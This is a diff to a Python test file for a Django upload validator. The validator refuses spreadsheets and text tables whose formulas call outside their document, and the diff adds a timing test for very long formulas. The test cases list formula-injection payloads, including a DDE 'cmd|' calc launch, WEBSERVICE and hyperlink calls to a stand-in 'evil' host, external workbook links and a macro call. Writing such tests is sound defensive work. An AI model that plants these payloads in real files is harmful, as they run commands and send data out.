@@ -1,10 +1,13 @@
 """A formula stays when it only calculates with its own document: in workbooks, in OpenDocument, in tables of text."""
 
+import time
+
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
 
 from registry.errors import Incomplete
 from registry.office_files import told
+from registry.standalone.office_cleaning.formulas import calls_out, may_call_out
 from registry.uploads import Accepted, accept
 from tests.registry.office import open_document, parts_of, workbook
 
@@ -123,7 +126,8 @@ def test_a_formula_of_an_opendocument_that_calculates_stays(formula: str) -> Non
         "＝cmd|'/c calc'!A0", '"＋WEBSERVICE(""http://evil/"")"', "=CONCAT(A1,WEBSERVICE(A2))",
         "=SERVICEWEB(A1)", "+SERVICEWEB(A1)",
         "+[http://evil/b.xlsx]S!A1", "-'\\\\evil\\[x.xlsx]S'!A1", "+evil.xlsm!Macro1()", "=evil!x", '"+EVIL(""x"")"', "@EVIL(A1)",
-        '"=MAP(A1:A2;WEBSERVICE)"', '"=1+\nWEBSERVICE(A1)"', '"=LIEN_HYPERTEXTE(""file://evil"")"', "-COM.MICROSOFT.WEBSERVICE(A1)",
+        '"=MAP(A1:A2;WEBSERVICE)"', '"=1+\nWEBSERVICE(A1)"',
+        '"=LIEN_HYPERTEXTE(""file://evil"")"', "-COM.MICROSOFT.WEBSERVICE(A1)",
     ],
 )  # fmt: skip
 def test_a_table_of_text_that_starts_a_program_is_refused(cell: str) -> None:
@@ -138,9 +142,18 @@ def test_a_table_of_text_may_name_what_parts_its_cells() -> None:
     "line",
     [
         "=SUM(A1:A2);-3;+4", "- une demande (request (x)) | autre !", "@nom | oui !", "a|b!;-c", "- patient(s)",
-        "- délai (jours)",
+        "- délai (jours)", "- [oui/non] !",
         "=> voir la note (2) !", "=====", "= oui", "-l'eau; -d'ici !", "=SOMME(A1:A2)", "=x | y", "-12 %; +5 (a)",
     ],
 )  # fmt: skip
 def test_other_formulas_and_dashes_are_only_text(line: str) -> None:
     assert _accept(f"mois;visites\n{line}\n".encode()).data
+
+
+def test_a_long_formula_is_judged_at_once() -> None:
+    started = time.monotonic()
+    for formula in ("{" + "1" * 16_000, "a" * 16_000, "a " * 8_000, "['" * 8_000, "''" * 8_000, "a|''" * 4_000, "[" * 16_000):
+        calls_out(formula)
+        may_call_out(f"={formula}")
+        may_call_out(f"+{formula}")
+    assert time.monotonic() - started < 5
